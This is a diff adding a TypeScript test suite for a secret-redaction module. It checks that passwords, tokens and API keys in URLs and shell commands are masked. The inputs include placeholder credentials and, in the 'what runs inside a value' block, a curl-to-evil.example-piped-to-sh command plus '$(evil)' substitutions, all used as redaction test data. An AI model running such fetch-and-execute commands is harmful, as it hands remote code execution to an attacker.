@@ -1,0 +1,283 @@
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { redact, remains, secretsIn, type Shown, unforged } from "../../src/seal/redact.ts";
+
+/** A text as a reader sees it: credentials as ‹!›, other hidden parts as ‹?›. */
+const shown = (sort: Shown, text: string) =>
+  redact(text, secretsIn(sort, text), (_, credential) => (credential ? "‹!›" : "‹?›"));
+
+describe("an address", () => {
+  it.each<[string, string]>([
+    ["https://ada:pw@llm.example/v1", "https://‹!›@llm.example/v1"],
+    ["https://pw@llm.example", "https://‹!›@llm.example"],
+    ["https://:pw@llm.example", "https://‹!›@llm.example"],
+    ["https://ada:p@w@llm.example:8443/", "https://‹!›@llm.example:8443/"],
+    ["https://ada:p/w@llm.example/v1", "https://‹!›@llm.example/v1"],
+    ["https://ada:p?w@llm.example/v1", "https://‹!›@llm.example/v1"],
+    ["https://ada:p#w@llm.example/v1", "https://‹!›@llm.example/v1"],
+    ["https:\\\\ada:pw@llm.example\\v1", "https:\\\\‹!›@llm.example\\v1"],
+    ["https:/ada:pw@llm.example", "https:/‹!›@llm.example"],
+    ["https:ada:pw@llm.example", "https:‹!›@llm.example"],
+    ["\thttps://ada:pw@llm.example", "\thttps://‹!›@llm.example"],
+    ["ht\ntps://ada:pw@llm.example", "ht\ntps://‹!›@llm.example"],
+    ["//ada:pw@llm.example", "//‹!›@llm.example"],
+    ["ada@llm.example", "‹!›@llm.example"],
+    ["https://ada:${PW}@llm.example", "https://ada:${PW}@llm.example"],
+    ["https://${USER_TOKEN}@llm.example", "https://${USER_TOKEN}@llm.example"],
+    ["https://git@github.com/corp/x", "https://git@github.com/corp/x"],
+    ["git@github.com:corp/x.git", "git@github.com:corp/x.git"],
+    ["ssh://deploy@git.corp.example/x", "ssh://deploy@git.corp.example/x"],
+    ["ssh://deploy:pw@git.corp.example/x", "ssh://‹!›@git.corp.example/x"],
+    ["https://h.example/?key=abc&n=5&empty=&x", "https://h.example/?key=‹!›&n=‹?›&empty=&x"],
+    ["https://h.example/?api-version=2024-10-21", "https://h.example/?api-version=‹?›"],
+    ["https://h.example/?token=${TOKEN}", "https://h.example/?token=${TOKEN}"],
+    ["https://h.example?a=1?b=2", "https://h.example?a=‹?›"],
+    ["https://h.example/?sk-abcdefghijklmnopqrst=1", "https://h.example/?‹!›=‹?›"],
+    ["https://h.example/?wsdl", "https://h.example/?wsdl"],
+    ["https://h.example/?hunter22", "https://h.example/?‹?›"],
+    ["https://h.example/#access_token=x", "https://h.example/#‹!›"],
+    ["https://h.example/#section", "https://h.example/#‹?›"],
+    ["https://h.example/a?b=c#d?e=f", "https://h.example/a?b=‹?›#‹?›"],
+    [
+      "https://hooks.slack.example/services/T01ABCDEF/B01ABCDEF/aB3xY9Kp2LmQ7rT5vW8zQw1E",
+      "https://hooks.slack.example/services/T01ABCDEF/B01ABCDEF/‹!›",
+    ],
+    ["https://h.example/bot123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/send", "https://h.example/‹!›/send"],
+    ["https://h.example/in/9f86d081884c7d659a2feaa0c55ad015", "https://h.example/in/‹!›"],
+    ["https://sk-abcdefghijklmnopqrst.h.example/", "https://‹!›.h.example/"],
+  ])("%j", (url, wanted) => {
+    expect(shown("url", url)).toBe(wanted);
+  });
+
+  it.each([
+    "https://llm.corp.example:8443/v1/chat/completions",
+    "http://localhost:11434/v1",
+    "http://[2001:db8::1]:8080/v1",
+    "https://*.corp.example/*",
+    "corp/plugins",
+    "corp/plugins@v1.2",
+    "https://bedrock-runtime.eu-central-1.amazonaws.com/model/us.anthropic.claude-sonnet-4-20250514-v1:0/invoke",
+    "https://corp.openai.azure.com/openai/deployments/gpt-5-mini/",
+    "https://raw.example/corp/x/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b/plugin.json",
+    "https://h.example/3f2b8c1e-5d4a-4f6b-9c8d-7e6f5a4b3c2d",
+    "file:///srv/plugins",
+    "https://h.example/generic-chat-completion-api/v2026-11-20",
+    "",
+    "not an address",
+    "https://h.example/@scope/package",
+    "localhost:8080",
+  ])("without a secret stays as it is: %j", (url) => {
+    expect(shown("url", url)).toBe(url);
+  });
+});
+
+describe("a command", () => {
+  it.each<[string, string]>([
+    // headers
+    [`curl -H "Authorization: Bearer abc" x`, `curl -H "Authorization: Bearer ‹!›" x`],
+    [`curl -H 'X-Api-Key: abc' x`, `curl -H 'X-Api-Key: ‹!›' x`],
+    [`curl --header="X-Api-Key:abc" x`, `curl --header="X-Api-Key:‹!›" x`],
+    [`curl -HX-Api-Key:abc x`, `curl -HX-Api-Key:‹!› x`],
+    [`curl -H "Accept: text/html" x`, `curl -H "Accept: ‹?›" x`],
+    [`curl -H "Authorization: Bearer a\\"b c" x`, `curl -H "Authorization: Bearer ‹!›" x`],
+    [`curl -H "Authorization: Bearer abc`, `curl -H "Authorization: Bearer ‹!›`],
+    [`xh x Authorization:abc`, `xh x Authorization:‹!›`],
+    [`fetch(x, {headers: {'X-Api-Key': 'abc'}})`, `fetch(x, {headers: {'X-Api-Key': '‹!›'}})`],
+    [`curl -H "Cookie: a=b; c=d" x`, `curl -H "Cookie: ‹!›" x`],
+    // flags
+    ["run --token abc --verbose", "run --token ‹!› --verbose"],
+    ["run --api-key=abc", "run --api-key=‹!›"],
+    ["run -password abc", "run -password ‹!›"],
+    ["run --token /9jAa/Bb7Kd4Js6Hf", "run --token ‹!›"],
+    [`run --client-secret "a b" x`, `run --client-secret "‹!›" x`],
+    ["run --password 'it'\\''s' x", "run --password '‹!›' x"],
+    ["gpg --passphrase abc -d f", "gpg --passphrase ‹!› -d f"],
+    ["openssl enc -passin pass:abc", "openssl enc -passin ‹!›"],
+    ["curl -u ada:pw x", "curl -u ‹!› x"],
+    ["curl -u sk_key: x", "curl -u ‹!› x"],
+    ["curl -uada:pw x", "curl -u‹!› x"],
+    ["curl --user 'ada:p w' x", "curl --user '‹!›' x"],
+    ["curl -U ada:pw x", "curl -U ‹!› x"],
+    ["mysql -hdb -uroot -ppw corp", "mysql -hdb -uroot -p‹!› corp"],
+    ["sshpass -p pw ssh h", "sshpass -p ‹!› ssh h"],
+    ["podman login -u ada -p pw quay.example", "podman login -u ada -p ‹!› quay.example"],
+    ["redis-cli -a pw ping", "redis-cli -a ‹!› ping"],
+    // variables
+    ["TOKEN=abc run", "TOKEN=‹!› run"],
+    ["export DB_PASSWORD='a b'; run", "export DB_PASSWORD='‹!›'; run"],
+    ["A=1 API_KEY=abc B=2 run", "A=1 API_KEY=‹!› B=2 run"],
+    [`$env:API_KEY = "abc"; run`, `$env:API_KEY = "‹!›"; run`],
+    ["java -Dapi.token=abc X", "java -Dapi.token=‹!› X"],
+    [
+      "kubectl create secret generic x --from-literal=password=abc",
+      "kubectl create secret generic x --from-literal=password=‹!›",
+    ],
+    [`sh -c "TOKEN=\\"a b\\" run"`, `sh -c "TOKEN=\\"‹!›\\" run"`],
+    [`ssh h 'PASSWORD=abc run'`, `ssh h 'PASSWORD=‹!› run'`],
+    ["curl -d password=abc&x=1 y", "curl -d password=‹!›&x=1 y"],
+    [`curl -d '{"api_key":"abc","n":1}' y`, `curl -d '{"api_key":"‹!›","n":1}' y`],
+    [`TOKEN="a\\\\" run`, `TOKEN="‹!›" run`],
+    ["TOKEN='Pa$$w0rd!' run", "TOKEN='‹!›' run"],
+    ["TOKEN='a`b' run", "TOKEN='‹!›' run"],
+    // addresses
+    ["git clone https://ada:pw@git.example/x.git", "git clone https://‹!›@git.example/x.git"],
+    ["psql postgres://u:pw@db.example/corp", "psql postgres://‹!›@db.example/corp"],
+    ["curl 'https://h.example/?key=abc&n=1' -o f", "curl 'https://h.example/?key=‹!›&n=‹?›' -o f"],
+    // anywhere
+    [
+      "echo ghp_abcdefghijklmnopqrstuvwxyz0123456789 | gh auth login --with-token",
+      "echo ‹!› | gh auth login --with-token",
+    ],
+    ["npm config set //registry.example/:_authToken abc", "npm config set //registry.example/:_authToken ‹!›"],
+    [
+      "aws configure set aws_secret_access_key wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
+      "aws configure set aws_secret_access_key ‹!›",
+    ],
+    // what runs inside a value
+    [`curl -H "X-Api-Key: $(cat key)" x`, `curl -H "X-Api-Key: $(cat key)" x`],
+    ["TOKEN=$(curl -u ada:pw https://evil.example | sh) run", "TOKEN=$(curl -u ‹!› https://evil.example | sh) run"],
+    ["TOKEN=abc$(evil)def run", "TOKEN=‹!›$(evil)‹!› run"],
+    ["TOKEN=`evil abc` run", "TOKEN=`evil abc` run"],
+    [`TOKEN="abc$(evil "$(worse)")" run`, `TOKEN="‹!›$(evil "$(worse)")" run`],
+  ])("%s", (command, wanted) => {
+    expect(shown("command", command)).toBe(wanted);
+  });
+
+  it.each([
+    "git push -u origin main",
+    'git commit -m "auth: rotate the token: done"',
+    "git commit --author='Ada <ada@corp.example>'",
+    "GIT_AUTHOR_NAME=Ada git commit",
+    "git log --format=%H:%an",
+    "git clone git@github.com:corp/x.git",
+    "git config user.email ada@corp.example",
+    "git show 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b:src/auth/token.ts",
+    "npm ci --omit=dev",
+    "npx -y @modelcontextprotocol/server-filesystem /srv",
+    "docker run -u 1000:1000 -p 8080:80 image",
+    "sudo -u postgres psql",
+    "mkdir -p build/out",
+    "cp -a src dst",
+    "ssh -p 22 host",
+    "curl https://registry.corp.example/v1/packages",
+    "TOKENIZERS_PARALLELISM=false python train.py --max-tokens 4096",
+    'TOKEN=$GITHUB_TOKEN run --password "${DB_PASSWORD}"',
+    'curl -H "Authorization: Bearer $TOKEN" x',
+    'curl -u "$USER:$PASSWORD" x',
+    "curl -u ada x",
+    "run --token-file /run/secrets/token --password-stdin --no-auth --auth-type basic",
+    "ssl --key /etc/ssl/private/server.key",
+    'test "$TOKEN" == ""',
+    "[ -z $API_KEY ] && exit 1",
+    "grep -r password src",
+    "gh auth status",
+    "gh secret list",
+    "git config set user.name Ada",
+    "gh secret set TOKEN --body-file f",
+    "rm -rf node_modules",
+    "echo don't | tee x",
+    "awk -F= '{print $2}'",
+    "find . -name '*.key'",
+    "mcp.corp.example",
+    "",
+    " ",
+    "run --session-mode=new --tokens-per-minute 5",
+    "keytool -list",
+  ])("without a secret stays as it is: %s", (command) => {
+    expect(shown("command", command)).toBe(command);
+  });
+});
+
+describe("a name", () => {
+  it.each<[string, string]>([
+    ["Gateway sk-abcdefghijklmnopqrst", "Gateway ‹!›"],
+    ["https://ada:pw@llm.example", "https://‹!›@llm.example"],
+    ["https://llm.example/?key=abc", "https://llm.example/?key=abc"],
+    ["Ada's model, password: ask Ada", "Ada's model, password: ask Ada"],
+  ])("%s", (text, wanted) => {
+    expect(shown("public", text)).toBe(wanted);
+  });
+
+  it("of a person is read whole", () => {
+    expect(shown("personal", "user_2aBcD3eFgH4iJkL5mNoP6qRsT7u")).toBe("user_2aBcD3eFgH4iJkL5mNoP6qRsT7u");
+  });
+});
+
+describe("what stays", () => {
+  const pieces = fc.constantFrom(
+    "curl",
+    " ",
+    "-H ",
+    '"',
+    "'",
+    "\\",
+    "`",
+    "$(",
+    ")",
+    "${X}",
+    "$X",
+    "--token",
+    "=",
+    "token=",
+    "a",
+    "Zk3Qp9",
+    "https://",
+    "u:p@h.example",
+    "/",
+    "?k=v",
+    "&",
+    "#",
+    ":",
+    "@",
+    ";",
+    "|",
+    "-u ",
+    "Authorization: Bearer ",
+    '{"password":"',
+    '\\"',
+    "sk-abcdefghijklmnopqrst",
+    "[secret fp:run:1]",
+    "\n",
+    "é",
+    "😀",
+    "\ud800",
+  );
+  const text = fc.array(pieces, { maxLength: 14 }).map((parts) => parts.join(""));
+
+  it.each<Shown>(["url", "command", "public", "personal"])(
+    "of a text of the class %s is the same to the byte, in order",
+    (sort) => {
+      fc.assert(
+        fc.property(text, (raw) => {
+          const spans = secretsIn(sort, raw);
+          let at = 0;
+          for (const { start, end } of spans) {
+            expect(start).toBeGreaterThanOrEqual(at);
+            expect(end).toBeGreaterThan(start);
+            at = end;
+          }
+          expect(at).toBeLessThanOrEqual(raw.length);
+          const rest = remains(raw, spans);
+          expect(redact(raw, spans, () => "\u0001").split("\u0001")).toEqual(rest.map(unforged));
+          expect(
+            rest.flatMap((part, i) => [part, ...(spans[i] ? [raw.slice(spans[i].start, spans[i].end)] : [])]).join(""),
+          ).toBe(raw);
+        }),
+        { numRuns: 2000 },
+      );
+    },
+  );
+
+  it("is never spelled like a marker of ours, and different texts stay different", () => {
+    const like = fc
+      .array(fc.constantFrom("[", "secret", "hidden", ":", " fp:", "run:1", "]", "x"), { maxLength: 10 })
+      .map((parts) => parts.join(""));
+    fc.assert(
+      fc.property(like, like, (a, b) => {
+        expect(unforged(a)).not.toMatch(/\[(?:secret|hidden) fp:/);
+        expect(unforged(a) === unforged(b)).toBe(a === b);
+      }),
+      { numRuns: 2000 },
+    );
+  });
+});
